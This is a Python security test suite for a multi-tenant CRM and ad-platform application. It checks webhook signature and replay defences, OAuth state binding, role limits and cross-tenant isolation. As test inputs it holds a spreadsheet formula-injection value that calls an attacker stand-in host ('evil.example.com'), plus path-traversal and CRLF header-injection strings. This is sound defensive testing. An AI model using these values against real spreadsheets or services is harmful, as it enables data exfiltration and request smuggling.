"""Attacks through outside systems: CRMs that post, vendors that lead back, sheets, ads elsewhere."""

import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import httpx2
import pytest
from sqlalchemy import select
from standardwebhooks.webhooks import Webhook

from contatto.accounts.model import Role
from contatto.ad_platforms import actions as authorizing
from contatto.ad_platforms.actions import RETURN_PATH, authorize_url
from contatto.ad_platforms.store import list_outside_accounts
from contatto.crm.actions.checks import INCOMING_PATH, open_incoming
from contatto.crm.actions.targets import CALLBACK, NewTarget, consent_address, link_crm
from contatto.crm.connectors.google_sheets import GoogleSheets
from contatto.crm.model import (
    CrmLink,
    EraseRecord,
    FindBy,
    FindRecord,
    Operation,
    ReadRecord,
    Target,
    WriteRecord,
)
from contatto.crm.registry import CONNECTORS
from contatto.crm.store.deliveries import crm_records, list_targets
from contatto.kit.db.tx import Tx
from contatto.kit.ids import hash_secret
from contatto.kit.outbound.model import HttpAnswer, HttpRequest
from contatto.leads.store.tables import leads
from tests.crm.test_every_connector import link_of
from tests.journeys.running import PASSWORD
from tests.security.elsewhere import number_elsewhere
from tests.security.filling import settle
from tests.security.holdings import changed_tables, rows_of
from tests.security.world import Tenant, World
from tests.unchanged import nothing_changes

COUNTED = {"crm_echoes"}
"""A message that was taken is remembered."""
FORMULA = '=IMPORTXML("https://evil.example.com", "//a")'


class Poster:
    """The program of a tenant that posts changes of its linked CRM."""

    def __init__(self, world: World, of: Tenant) -> None:
        def begin(tx: Tx) -> tuple[Target, str]:
            (target,) = (each for each in list_targets(tx, of.business_id) if each.connector == "webhook")
            return target, open_incoming(tx, target)

        self.world = world
        self.target, self.secret = world.context.db.write_now(begin)

    def signed(self, message_id: str, change: Any) -> tuple[bytes, dict[str, str]]:
        body, now = json.dumps({"type": "record.changed", "data": change}), self.world.context.clock.now()
        signature = Webhook(self.secret).sign(message_id, now, body)
        stamp = str(int(now.timestamp()))
        named = {"webhook-id": message_id, "webhook-timestamp": stamp, "webhook-signature": signature}
        return body.encode(), named

    def post(self, body: bytes, headers: dict[str, str], to: Target | None = None) -> int:
        path = INCOMING_PATH.format(target_id=(to or self.target).number)
        return self.world.ask("POST", path, content=body, headers=headers).status_code


def lead_of(world: World, of: Tenant, target: Target) -> str:
    """A lead of a tenant that its CRM knows."""

    def find(tx: Tx) -> str:
        shown = select(crm_records.c.lead_id).join(leads, leads.c.id == crm_records.c.lead_id)
        mine = crm_records.c.business_id == of.business_id, crm_records.c.target_id == target.id
        return str(tx.scalar(shown.where(*mine, leads.c.hidden_at.is_(None)).limit(1)))

    return world.context.db.read_now(find)


def test_a_post_of_a_crm_changes_once_and_only_its_own_leads(fresh_world: World) -> None:
    world = fresh_world
    own, other = Poster(world, world.attacker), Poster(world, world.victim)
    mine, theirs = (
        lead_of(world, of, at.target) for of, at in ((world.attacker, own), (world.victim, other))
    )
    victims, before = rows_of(world, world.victim), rows_of(world, world.attacker)
    foreign = [{"lead_id": theirs, "owner": "me"}, {"record_id": theirs, "is_deleted": True}]
    assert own.post(*own.signed("foreign", foreign)) == 200
    assert changed_tables(before, rows_of(world, world.attacker)) <= COUNTED
    assert own.post(*own.signed("stolen", {"lead_id": theirs, "owner": "me"}), to=other.target) == 401
    body, headers = own.signed("once", {"lead_id": mine, "owner": "Bea"})
    assert own.post(body, headers) == 200
    once = rows_of(world, world.attacker)
    assert "crm_records" in changed_tables(before, once)
    again, signed_anew = own.signed("once", {"lead_id": mine, "owner": "Somebody else"})
    for sent in ((body, headers), (again, signed_anew)):
        assert own.post(*sent) == 200
    for forged in (
        {"webhook-id": "twice"},
        {"webhook-timestamp": str(int(headers["webhook-timestamp"]) + 1)},
    ):
        assert own.post(body, headers | forged) == 401
    world.context.clock.advance(seconds=301)  # type: ignore[attr-defined]  # the world's stands still
    assert own.post(body, headers) == 401
    assert changed_tables(once, rows_of(world, world.attacker)) <= COUNTED
    assert changed_tables(victims, rows_of(world, world.victim)) == set()


type Attack = Callable[[World, str, str], httpx2.Response]


def crm_state(world: World, of: Tenant, role: Role) -> str:
    """A state that a session of a member carries to a CRM's vendor."""

    def link(tx: Tx) -> Target:
        oauth_targets = [each for each in list_targets(tx, of.business_id) if each.connector == "hubspot"]
        given = {"client_id": "id", "client_secret": "secret"}
        return oauth_targets[0] if oauth_targets else link_crm(
            tx, of.business_id, NewTarget("hubspot", "", "", given), ()
        )  # fmt: skip

    target = world.context.db.write_now(link)
    session = hash_secret(of.sessions[role])
    visitor = of.business_id, of.members[role], session
    oauth = CONNECTORS["hubspot"].traits.oauth
    assert oauth is not None
    context = world.context
    address = consent_address(
        context.vault, target, oauth, visitor, context.clock.now(), "https://us.example"
    )
    return parse_qs(urlsplit(address).query)["state"][0]


def platform_state(world: World, of: Tenant, role: Role) -> str:
    """A state that a session of a member carries to an ad platform."""
    context = world.context
    account = next(
        each
        for each in context.db.read_now(lambda tx: list_outside_accounts(tx, of.business_id))
        if each.external_id == number_elsewhere(of)
    )
    visitor = authorizing.OutsideVisitor(of.members[role], hash_secret(of.sessions[role]))
    when = int(context.clock.now().timestamp()), "https://us.example"
    address = authorize_url(context.vault, account, of.app_id, visitor, when)
    return parse_qs(urlsplit(address).query)["state"][0]


WAYS = {CALLBACK: crm_state, RETURN_PATH: platform_state}
LASTS = {CALLBACK: timedelta(minutes=15), RETURN_PATH: timedelta(hours=1)}


@pytest.mark.parametrize("path", WAYS)
def test_a_state_of_a_consent_is_good_for_its_own_session_alone_and_once(
    fresh_world: World, path: str
) -> None:
    world, of, other = fresh_world, fresh_world.victim, fresh_world.attacker
    state = WAYS[path](world, of, Role.OWNER)
    foreign = WAYS[path](world, other, Role.OWNER)
    of_admin = WAYS[path](world, of, Role.ADMIN)
    elsewhere = next(make for at, make in WAYS.items() if at != path)(world, of, Role.OWNER)
    member_again = world.log_in(f"{Role.OWNER}@{of.word}.example.com", PASSWORD)
    forged = [
        foreign,
        of_admin,
        elsewhere,
        state[:-2],
        f"{state}A",
        state.swapcase(),
        "",
        "1.2.3.4",
        "\0",
        "é" * 40,
    ]

    def send(session: str, sent: str, code: str = "stolen-code") -> list[int]:
        shown = world.ask("GET", f"{path}?state={quote(sent)}&code={code}", session=session)
        done = world.ask("POST", path, session=session, data={"state": sent, "code": code})
        return [shown.status_code, done.status_code]

    with nothing_changes(world.context.db):
        for sent in forged:
            assert set(send(of.owner, sent)) <= {401, 422}, sent
        for session in (other.owner, of.sessions[Role.ADMIN], member_again):
            assert send(session, state) == [401, 401]
        assert send(of.sessions[Role.MANAGER], state) == [403, 403]
    assert send(of.owner, state, "code-1") == [200, 303]
    used = rows_of(world, of)
    assert send(of.owner, state, "code-2")[1] == 409
    assert changed_tables(used, rows_of(world, of)) == set()
    late = WAYS[path](world, of, Role.OWNER)
    world.context.clock.advance(seconds=LASTS[path].total_seconds() + 1)  # type: ignore[attr-defined]
    assert set(send(of.owner, late)) <= {401}


SHEET = GoogleSheets()


def sheet_requests(operation: Operation, link: CrmLink, cells: tuple[str, ...]) -> list[HttpRequest]:
    """What is sent to Google for an operation, on a sheet with these names of columns and one row of ours."""
    ours = "0195e2a7-0000-7000-8000-000000000001"
    sent, memory = list[HttpRequest](), ""
    request: object = SHEET.ask(link, operation)
    head = ["Lead ID", *cells] if cells else []
    answers = [head, ["Lead ID", ours], [ours, *cells]]
    for line in answers:
        if not isinstance(request, HttpRequest):
            break
        sent.append(request)
        found = {"range": "x", "values": [line], "spreadsheetId": "x"}
        reply = SHEET.read(link, operation, HttpAnswer(200, {}, json.dumps(found).encode()), memory)
        request, memory = getattr(reply, "request", None), getattr(reply, "memory", "")
    return sent


@pytest.mark.parametrize("columns", [("Name", FORMULA), ()])
def test_a_sheet_takes_what_people_write_as_text_and_not_as_a_formula(columns: tuple[str, ...]) -> None:
    """Also as the name of a column, which a form's question is."""
    link = link_of(SHEET.traits)
    values = {"Name": FORMULA, FORMULA: "+1+1"}
    for known in (None, "0195e2a7-0000-7000-8000-000000000001"):
        write = WriteRecord(known, "0195e2a7-0000-7000-8000-000000000001", 1, values, FORMULA, link.now)
        sent = [each for each in sheet_requests(write, link, columns) if FORMULA.encode()[:9] in each.body]
        assert sent
        assert {parse_qs(urlsplit(each.url).query)["valueInputOption"][0] for each in sent} == {"RAW"}


@pytest.mark.parametrize(
    "named",
    ["../../drive/v3/files", "..", "x/values/A1:clear?", "x#", "Leads'!A1:Z9", "'; '", "x\r\nHost: evil"],
)
def test_a_sheets_settings_lead_to_no_other_address_of_google(named: str) -> None:
    plain = link_of(SHEET.traits)
    lead_id = "0195e2a7-0000-7000-8000-000000000001"
    operations: list[Operation] = [
        ReadRecord(lead_id), FindRecord(FindBy.EXTERNAL_ID, lead_id), EraseRecord(lead_id, lead_id),
        WriteRecord(None, lead_id, 1, {"Name": "Mei"}, "", plain.now),
    ]  # fmt: skip
    for setting in ("spreadsheet", "sheet"):
        link = CrmLink(plain.address, {**plain.settings, setting: named}, plain.secrets, plain.now)
        for operation in operations:
            hostile, usual = (sheet_requests(operation, at, ("Name",)) for at in (link, plain))
            assert len(hostile) == len(usual) > 1
            for one, other in zip(hostile, usual, strict=True):
                url, known = httpx2.URL(one.url), httpx2.URL(other.url)
                assert (url.host, url.query, url.fragment) == (known.host, known.query, known.fragment)
                steps, usual_steps = (
                    each.raw_path.decode().split("?")[0].split("/") for each in (url, known)
                )
                assert steps[:3] == usual_steps[:3]
                assert (len(steps), steps[4]) == (len(usual_steps), "values")


def test_nobody_below_an_owner_changes_an_owner_or_makes_one(world: World) -> None:
    of = world.attacker
    owner, members = of.members[Role.OWNER], "/settings/members"
    acts: list[tuple[str, dict[str, str]]] = [
        *((f"{members}/{owner}/role", {"role": str(role)}) for role in Role if role is not Role.OWNER),
        (f"{members}/{owner}/deactivate", {}),
        (f"{members}/{owner}/reactivate", {}),
        (f"{members}/{owner}/reset", {}),
        *(
            (f"{members}/{of.members[role]}/role", {"role": "owner"})
            for role in Role
            if role is not Role.OWNER
        ),
        ("/settings/invitations", {"email": "new@example.com", "role": "owner"}),
    ]
    below = [role for role in Role if role is not Role.OWNER]
    with nothing_changes(world.context.db):
        for role in below:
            for path, form in acts:
                answer = world.ask("POST", path, session=of.sessions[role], data=form)
                assert answer.status_code == 403, (role, path, form, answer.text[-500:])


def test_a_manager_reaches_no_member_token_secret_or_linked_system(world: World) -> None:
    """What a manager may not do is asked of all routes elsewhere; here it is named what that has to cover."""
    of, manager = world.attacker, world.attacker.sessions[Role.MANAGER]
    (target,) = (
        each
        for each in world.context.db.read_now(lambda tx: list_targets(tx, of.business_id))
        if each.connector == "webhook"
    )
    refused = {
        "/settings/tokens": {"name": "mine", "scopes": "settings.write"},
        "/settings/invitations": {"email": "new@example.com", "role": "agent"},
        f"/settings/members/{of.members[Role.AGENT]}/role": {"role": "manager"},
        f"/settings/members/{of.members[Role.MANAGER]}/role": {"role": "admin"},
        f"/settings/members/{of.members[Role.AGENT]}/reset": {},
        f"/settings/integrations/{target.number}/secrets": {"secret": "x"},
        "/settings/ad-platforms": {"platform": "tiktok", "external_id": "1"},
        "/leads/erase": {"ids": "x", "word": "erase"},
    }
    with nothing_changes(world.context.db):
        for path, form in refused.items():
            assert world.ask("POST", path, session=manager, data=form).status_code in (403, 404), path


def test_an_ad_account_elsewhere_that_two_tenants_name_is_each_ones_own(fresh_world: World) -> None:
    """Whoever names the account of another reads nothing of it and changes nothing in it."""
    world, of, other = fresh_world, fresh_world.victim, fresh_world.attacker
    number = number_elsewhere(of)
    before = rows_of(world, of)
    digits = number.removeprefix("70")
    head = "Campaign name,Ad group name,Ad name,Ad ID,Day,Cost,Impressions,Clicks"
    row = f"stolen,stolen,stolen,{digits}77777777777,2026-01-05,9.00,900,9"
    new = {"external_id": number, "name": "stolen", "currency": "SGD", "timezone": "UTC"}
    for path, form in (
        ("/settings/ad-platforms/upload/start", {"text": f"{head}\n{row}"} | new),
        ("/settings/ad-platforms", {"platform": "tiktok", "external_id": number, "access_token": "mine"}),
    ):
        assert world.ask("POST", path, session=other.owner, data=form).status_code in (200, 303)
    settle(world)
    assert changed_tables(before, rows_of(world, of)) == set()
    accounts = world.context.db.read_now(lambda tx: list_outside_accounts(tx, other.business_id))
    (mine,) = (each for each in accounts if each.external_id == number)
    (theirs,) = (
        each
        for each in world.context.db.read_now(lambda tx: list_outside_accounts(tx, of.business_id))
        if each.external_id == number
    )
    signals = {"dataset_id": "stolen", "steps": ["captured"], "consent": "not_refused"}
    with nothing_changes(world.context.db):
        for step, sent in (
            ("signals", signals), ("signals/test", {"code": "X"}), ("disconnect", {}), ("pull", {}),
            ("token", {"access_token": "mine"}), ("code", {"app_id": other.app_id, "code": "x"}),
        ):  # fmt: skip
            path = f"/settings/ad-platforms/{theirs.id}/{step}"
            assert world.ask("POST", path, session=other.owner, data=sent).status_code == 404, path
    for path in (f"/settings/ad-platforms/{mine.id}", "/settings/ad-platforms", "/reports", "/ads"):
        shown = world.ask("GET", path, session=other.owner)
        assert shown.status_code == 200, path
        assert of.tells_of(shown.text) == "", path
